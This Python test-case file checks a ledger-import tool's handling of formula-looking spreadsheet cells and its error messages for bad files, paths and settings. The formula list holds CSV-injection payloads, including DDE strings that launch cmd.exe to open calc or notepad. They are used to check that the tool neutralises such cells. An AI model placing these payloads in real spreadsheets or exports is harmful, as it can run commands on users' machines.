"""Corpus cases: spreadsheet formulas in cells, and errors that used to mislead.

A formula-looking cell (``=HYPERLINK(…)``, ``+cmd|' /C calc'!A0``, ``@SUM(…)``, a leading tab)
may be kept or rejected, but no output CSV may hold it as a formula. A file that cannot be
imported gives one line naming the file (or the option, or the setting) and a fix.
"""

from __future__ import annotations

from pathlib import Path

from _kinds import ledger
from corpus import IMPORT, Case, Expect, add

_FORMULAS = (
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=cmd|' /C notepad'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
)
# (kind, kept column, accepted as text) — the value is kept, neutralised
_KEPT = (("compounds", "name"), ("compounds", "partner"), ("loans", "sector"),
         ("loans", "community"), ("inspections", "premises"), ("consultations", "compound"),
         ("renovation_tasks", "compound"), ("communities", "name"), ("inspections", "type"),
         ("loans", "seq"))  # fmt: skip
for n, (kind, column) in enumerate(_KEPT):
    fmt = "xlsx" if n % 3 == 2 else "csv"
    add(Case(
        f"formula_kept_{n:02d}_{kind}.{fmt}", "formula",
        ledger(kind, 4, {2: {column: _FORMULAS[n % len(_FORMULAS)]}}, fmt=fmt),
        Expect(accepted=4), kind=kind,
    ))  # fmt: skip
# a formula in a row rejected for another reason: rejected.csv shows the cell, neutralised
for n, (kind, column, bad) in enumerate((
    ("compounds", "name", {"built": "19x0"}),
    ("loans", "unit", {}),  # =… is no unit: unknown_unit
    ("inspections", "outcome", {}),  # not in the vocabulary
    ("consultations", "compound", {"participants": "若干"}),
)):  # fmt: skip
    add(Case(
        f"formula_rejected_{n}_{kind}.csv", "formula",
        ledger(kind, 4, {3: {column: _FORMULAS[n], **bad}}), Expect(accepted=3, rejected=1),
        kind=kind,
    ))  # fmt: skip


def _formula_cells(path: Path) -> None:
    """A workbook with real formula cells and no saved values (as openpyxl writes them)."""
    from _kinds import cells
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in cells("loans", 4):
        sheet.append([None if v == "" else v for v in row])
    sheet["J3"] = "=SUM(J2,1)"  # jobs: no saved value, so not a number
    sheet["H4"] = '=HYPERLINK("http://example.invalid","餐饮")'  # sector, kept as written
    book.save(path)


add(Case(
    "formula_unsaved_cells.xlsx", "formula", _formula_cells,
    Expect(accepted=3, rejected=1),
))  # fmt: skip


# ---------------------------------------------------------------- misleading messages
def _folder(path: Path) -> None:
    path.mkdir()
    (path / "台账.xlsx").write_bytes(ledger("loans", 2, fmt="xlsx"))


def _with_out_file(path: Path) -> None:
    path.write_bytes(ledger("loans", 3))
    (path.parent / "out.csv").write_text("x\n", encoding="utf-8")


def _stale(data: bytes):
    def write(path: Path) -> None:
        path.write_bytes(data)
        out = path.parent / "out"
        out.mkdir()
        for name in ("accepted.csv", "rejected.csv", "import.json"):
            (out / name).write_text("from an earlier import\n", encoding="utf-8")

    return write


for kind in ("loans", "compounds"):
    add(Case(f"{kind}_folder_as_file.xlsx", "message", _folder, Expect(refused="is a folder"),
             kind=kind))  # fmt: skip
for as_of in ("2020-02-30", "yesterday", "2020/09/23"):
    add(Case(
        f"loans_as_of_{as_of.replace('/', '-')}.csv", "message", ledger("loans", 3),
        Expect(refused="--as-of"), args=(*IMPORT, "--as-of", as_of),
    ))  # fmt: skip
add(Case(
    "loans_out_is_a_file.csv", "message", _with_out_file, Expect(refused="is a file"),
    args=("import-ledger", "loans", "{file}", "--out", "{dir}/out.csv"), names="out.csv",
))  # fmt: skip
add(Case(
    "loans_out_under_a_file.csv", "message", _with_out_file, Expect(refused="out.csv"),
    args=("import-ledger", "loans", "{file}", "--out", "{dir}/out.csv/sub"), names="out.csv",
))  # fmt: skip
for n, (data, said) in enumerate((
    (b"nothing,here\n1,2\n", "no header row"),
    (ledger("compounds", 3), "looks like a compounds ledger"),
    (b"", "file is empty"),
    (ledger("loans", 3).replace("贷款金额（万元）".encode(), b"x"), "no column for amount_yuan"),
)):  # fmt: skip
    add(Case(
        f"loans_stale_outputs_{n}.csv", "message", _stale(data), Expect(
            refused=said, absent=("accepted.csv", "rejected.csv", "import.json")),
    ))  # fmt: skip
for command in ("reconcile", "verify", "report"):
    add(Case(
        f"ledger_dir_typo_{command}.txt", "message", b"", Expect(refused="is not a folder"),
        args=(command,), env={"SHANGJIE_LEDGER_DIR": "{dir}/imported-typo"},
        names="SHANGJIE_LEDGER_DIR",
    ))  # fmt: skip
add(Case(
    "loans_ledger_dir_typo_import.csv", "message", ledger("loans", 3),
    Expect(refused="is not a folder"), env={"SHANGJIE_LEDGER_DIR": "{dir}/imported-typo"},
    names="SHANGJIE_LEDGER_DIR",
))  # fmt: skip
_REFUSED = (
    ("missing.xlsx", None, "file not found", ()),
    ("old_binary.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504, "old binary Excel", ()),
    ("scan.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "PDF", ()),
    ("damaged.xlsx", b"PK\x03\x04" + b"\x14" * 200, "not a readable .xlsx", ()),
    ("no_such_sheet.xlsx", ledger("loans", 3, fmt="xlsx"), "has no sheet", ("--sheet", "二月")),
    ("no_alias_file.csv", ledger("loans", 3), "alias table not found",
     ("--aliases", "{dir}/a.csv")),
    ("salt_unset.csv", ledger("loans", 3), "is not set", ("--salt-env", "NO_SUCH_SALT_VAR")),
    ("dollars.csv", ledger("loans", 3).replace("万元".encode(), "美元".encode()), "美元", ()),
)  # fmt: skip
for name, data, said, extra in _REFUSED:
    add(Case(
        name, "message", data if data is not None else (lambda path: None),
        Expect(refused=said), args=(*IMPORT, *extra),
        names="a.csv" if name == "no_alias_file.csv" else None,  # the file to fix
    ))  # fmt: skip
add(Case(
    "salt_too_short.csv", "message", ledger("loans", 3), Expect(refused="salt"),
    env={"SHANGJIE_LEDGER_SALT": "short"},
))  # fmt: skip
